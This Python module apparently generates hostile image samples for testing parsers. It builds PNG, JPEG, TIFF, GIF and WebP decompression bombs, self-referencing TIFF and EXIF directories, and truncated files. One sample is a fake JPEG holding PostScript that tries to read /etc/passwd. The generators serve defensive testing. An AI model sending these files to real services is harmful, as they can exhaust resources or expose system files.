"""Hostile pictures."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from functools import partial

from PIL import Image

from hostile.bombs import zlibbed
from hostile.lure import Lure, Maker
from hostile.pdf import jpeg

_INLINE, _LONG, _SHORT = 4, 4, 3  # TIFF 6.0: the types of a directory's values


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, data: bytes, *more: bytes) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _tiff(width: int, height: int, *, frames: int = 1, circle: bool = False, strip: int = 0) -> bytes:
    """Uncompressed white frames that all show the same strip."""
    data = b"\xff" * (strip or min(width * height, 1_000))
    out = b"II*\0" + struct.pack("<I", 8 + len(data)) + data
    for frame in range(frames):
        tags = [
            (256, width),
            (257, height),
            (258, 8),
            (259, 1),
            (262, 1),
            (273, 8),
            (277, 1),
            (278, height),
            (279, len(data)),
        ]
        here = len(out)
        after = 0 if frame == frames - 1 and not circle else here + 2 + 12 * len(tags) + 4
        out += struct.pack("<H", len(tags)) + b"".join(
            struct.pack("<HHII", tag, _LONG, 1, value) for tag, value in tags
        )
        out += struct.pack("<I", 8 + len(data) if circle and frame == frames - 1 else after)
    return out


def _frames(count: int) -> bytes:
    """Real small frames, packed."""
    file = io.BytesIO()
    page = Image.new("1", (600, 600), 1)
    page.save(file, "TIFF", save_all=True, append_images=[page] * (count - 1), compression="group4")
    return file.getvalue()


def _saved(kind: str, **options: object) -> bytes:
    file = io.BytesIO()
    Image.new("L", (900, 700), 255).save(file, kind, **options)
    return file.getvalue()


def _exif_loop() -> bytes:
    """A directory of EXIF that is its own next one, and one inside itself."""
    directory = (
        struct.pack("<HHHII", 2, 0x8769, _LONG, 1, 8)
        + struct.pack("<HHII", 0x0112, _SHORT, 0x7FFFFFFF, 8)
        + struct.pack("<I", 8)
    )
    exif = b"Exif\0\0II*\0" + struct.pack("<I", 8) + directory
    content = _saved("JPEG")
    return content[:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + content[2:]


def _gif(width: int, height: int) -> bytes:
    return (
        b"GIF89a"
        + struct.pack("<HH", width, height)
        + b"\x80\0\0"
        + bytes(6)
        + b","
        + struct.pack("<HHHH", 0, 0, width, height)
        + b"\0\x02\x02\x44\x01\0;"
    )


def _webp(width: int, height: int) -> bytes:
    """A lossless head of that size (14 bits each) and nothing to fill it."""
    data = b"\x2f" + struct.pack("<I", (width - 1) | (height - 1) << 14) + bytes(20)
    return b"RIFF" + struct.pack("<I", len(data) + 13) + b"WEBPVP8L" + struct.pack("<I", len(data)) + data + b"\0"


def _made(build: Callable[[], bytes], _: Lure) -> bytes:
    return build()


_BUILT: dict[str, Callable[[], bytes]] = {
    "a png of 4 billion points": lambda: _png(65_000, 65_000, zlibbed(b"\0", 4_200_000_000)),
    "a png of 64 million points": lambda: _png(8_000, 8_000, zlibbed(b"\xff", 70_000_000)),
    "a png with a text of 4 GB": lambda: _png(600, 600, zlib.compress(bytes(360_600)), _chunk(b"zTXt", b"a\0\0" + zlibbed(b"a", 4_000_000_000))),
    "a png with a profile of 4 GB": lambda: _png(600, 600, zlib.compress(bytes(360_600)), _chunk(b"iCCP", b"a\0\0" + zlibbed(b"a", 4_000_000_000))),
    "a png without an end": lambda: _png(600, 600, zlib.compress(bytes(360_600)))[:300],
    "a jpeg of 4 billion points": lambda: jpeg(65_000, 65_000),
    "a jpeg of 64 million points": lambda: jpeg(8_000, 8_000),
    "a jpeg without an end": lambda: _saved("JPEG")[:-900],
    "exif in a circle": _exif_loop,
    "a tiff of 4 billion points": lambda: _tiff(65_000, 65_000),
    "a tiff of 64 million points": lambda: _tiff(8_000, 8_000),
    "a tiff of 12 frames": lambda: _frames(12),
    "a tiff in a circle": lambda: _tiff(600, 600, frames=3, circle=True, strip=360_000),
    "a tiff of 100,000 frames of one strip": lambda: _tiff(600, 600, frames=100_000, strip=360_000),
    "a tiff without an end": lambda: _saved("TIFF")[:2_000],
    "a gif of 4 billion points": lambda: _gif(65_000, 65_000),
    "a webp of 268 million points": lambda: _webp(16_384, 16_384),
    "a webp of 64 million points": lambda: _webp(8_000, 8_000),
    "a picture of another kind in disguise": lambda: b"\xff\xd8\xff" + b"%!PS-Adobe-3.0 EPSF\n(/etc/passwd) run\n",
}  # fmt: skip
PICTURES: dict[str, Maker] = {name: partial(_made, build) for name, build in _BUILT.items()}
